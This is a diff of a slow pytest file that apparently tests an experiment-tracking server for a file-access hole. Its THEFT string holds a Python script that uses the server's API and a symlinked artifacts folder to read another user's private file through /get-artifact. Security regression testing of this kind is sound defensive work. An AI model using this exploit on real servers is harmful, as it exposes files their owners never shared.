@@ -24,7 +24,7 @@ pytestmark = pytest.mark.slow
 
 SECRET = "what only its owner may read"
 # What a user needs who wants another one's file, without any package: an experiment whose
-# artifacts are in a folder of theirs, a run, and a link in it.
+# artifacts are in a folder of theirs, a run, and a link in place of its artifacts.
 THEFT = """
     import base64, json, os, sys, urllib.request
     url, login, folder, target = sys.argv[1:]
@@ -43,9 +43,10 @@ THEFT = """
     made = json.loads(ask(api + "experiments/create", place))
     run = json.loads(ask(api + "runs/create", {"experiment_id": made["experiment_id"]}))
     run = run["run"]["info"]["run_id"]
-    os.makedirs(f"{folder}/{run}/artifacts", exist_ok=True)
-    os.symlink(target, f"{folder}/{run}/artifacts/link")
-    print(ask(f"/get-artifact?path=link&run_uuid={run}").decode())
+    os.makedirs(f"{folder}/{run}")
+    os.symlink(os.path.dirname(target), f"{folder}/{run}/artifacts")
+    file = os.path.basename(target)
+    print(ask(f"/get-artifact?path={file}&run_uuid={run}").decode())
 """
 
 
